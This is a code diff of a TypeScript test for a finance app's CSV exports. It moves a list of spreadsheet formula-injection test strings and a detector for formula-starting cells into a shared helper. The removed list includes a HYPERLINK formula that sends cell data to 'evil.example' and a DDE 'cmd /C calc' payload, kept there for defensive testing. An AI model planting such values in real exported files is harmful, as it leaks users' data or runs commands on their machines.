@@ -13,65 +13,10 @@ import type { DividendRecord } from '../../../../src/worker/engine';
 import { transactionsToCsv } from '../../../../src/worker/backup/export-csv';
 import { readRestoreFile } from '../../../../src/worker/backup/read-restore';
 import { taxReportCsv } from '../../../../src/worker/tax-report-csv';
+import { formulaCells, HOSTILE_TEXTS } from '../../../helpers/spreadsheet-readings';
 
 /** The reader's clock (`readRestoreFile` has none), which dates the saved-at times a backup may carry. */
 const NOW_MS = Date.UTC(2026, 10, 29, 12);
-
-/** The issue's names and their variants: a trigger after `;`, `,`, tab, line breaks, spaces of every kind, quotes. */
-export const HOSTILE_TEXTS = [
-  'ACME;=2*3;X',
-  'ACME\t=2*3\tX',
-  'ACME,=2*3,X',
-  ' =2*3',
-  '\n=2*3',
-  '\r\n=2*3',
-  '\u00A0=2*3',
-  '\u2007\u202F\u3000=2*3',
-  '\t=2*3',
-  '\r=2*3',
-  '=2*3',
-  '+2*3',
-  '-2*3',
-  '@SUM(1)',
-  '=HYPERLINK("http://evil.example/?"&A1;"x")',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '=1+2";=1+2',
-  "=1+2'\" ;,=1+2",
-  'ACME; =2*3',
-  'ACME;\u00A0+2',
-  'ACME;"=2*3"',
-  'ACME; " @x"',
-  'ACME,"=2*3",X',
-  'a;b\t-c,d\n@e\r+f',
-  '＝1+1',
-  "'=2*3",
-  "ACME;'=2*3",
-  "'",
-  "L'Oréal; 'quoted'",
-  'ACME;;=1;',
-  '"',
-  '";=1',
-];
-
-const FORMULA_START = /^[\s\u200B-\u200D\u2060"]*[=+\-@＝＋－＠]/;
-const PLAIN_NUMBER = /^\s*-?\d+(\.\d+)?\s*$/;
-
-/** Every reading a spreadsheet might make: each separator, with RFC 4180 quotes and without (a naive split). */
-function readings(csv: string): Array<{ how: string; cells: string[] }> {
-  const text = csv.replace(/^\uFEFF/, '');
-  const out: Array<{ how: string; cells: string[] }> = [];
-  for (const delimiter of [',', ';', '\t']) {
-    const quoted = Papa.parse<string[]>(text, { delimiter });
-    out.push({ how: `${JSON.stringify(delimiter)} with quotes`, cells: quoted.data.flat() });
-    const lines = text.split(/\r\n|\r|\n/);
-    out.push({ how: `${JSON.stringify(delimiter)} split naively`, cells: lines.flatMap((line) => line.split(delimiter)) });
-  }
-  return out;
-}
-
-function formulaCells(csv: string): string[] {
-  return readings(csv).flatMap(({ how, cells }) => cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell)).map((cell) => `${how}: ${JSON.stringify(cell)}`));
-}
 
 const trade = (i: number, product: string, importId: string): Transaction => ({
   ticker: 'ACME',
